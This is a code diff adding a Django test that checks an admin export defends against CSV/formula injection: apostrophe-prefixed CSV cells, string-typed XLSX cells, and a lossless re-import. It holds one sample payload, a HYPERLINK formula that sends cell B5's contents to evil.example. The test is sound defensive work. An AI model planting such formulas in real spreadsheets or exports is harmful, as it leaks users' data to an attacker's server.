@@ -358,6 +358,42 @@ def test_the_admin_exports_the_filtered_list_as_csv_for_excel(client):
     assert versions[0].name in text and "Bản nháp chưa công bố" not in text
 
 
+HOSTILE = '=HYPERLINK("https://evil.example/?d="&B5,"Xem")'
+
+
+def admin_export(client, file_format):
+    page = client.get(EXPORT_URL)
+    fields = {
+        name: "on" for name in page.context["form"].fields if name.startswith("procedureversionresource_")
+    }
+    response = client.post(EXPORT_URL, {"format": file_format, **fields})
+    assert response.status_code == 200
+    return response.content
+
+
+def test_the_admin_export_writes_formula_like_text_as_text_and_reads_it_back(client):
+    """OWASP CSV injection: CSV cells get an apostrophe, XLSX cells are strings; the import undoes it."""
+    versions = make_published_catalogue()
+    ProcedureVersion.objects.filter(pk=versions[0].pk).update(name=HOSTILE, legal_basis="- Luật Đất đai 2024")
+    before = sorted((content_of(v) for v in ProcedureVersion.objects.all()), key=lambda c: c["national_code"])
+    sign_in_to_admin(client, catalogue_admin())
+
+    text = admin_export(client, CSV_FORMAT).decode("utf-8-sig")
+    sheet = openpyxl.load_workbook(io.BytesIO(admin_export(client, XLSX_FORMAT))).active
+
+    assert "'" + HOSTILE.replace('"', '""') in text and ",'- Luật Đất đai 2024," in text
+    [name] = [cell for row in sheet.iter_rows() for cell in row if cell.value == HOSTILE]
+    assert name.data_type == "s"
+    ProcedureVersion.objects.all().delete()
+    Procedure.objects.all().delete()
+    result = ProcedureVersionResource().import_data(
+        tablib.import_set(text, format="csv"), rollback_on_validation_errors=True
+    )
+    assert row_error_lines(result) == []
+    after = sorted((content_of(v) for v in ProcedureVersion.objects.all()), key=lambda c: c["national_code"])
+    assert after == before
+
+
 # --- the admin import -------------------------------------------------------------------------------------
 def test_the_admin_imports_a_good_csv_after_a_preview(client):
     reference_data()
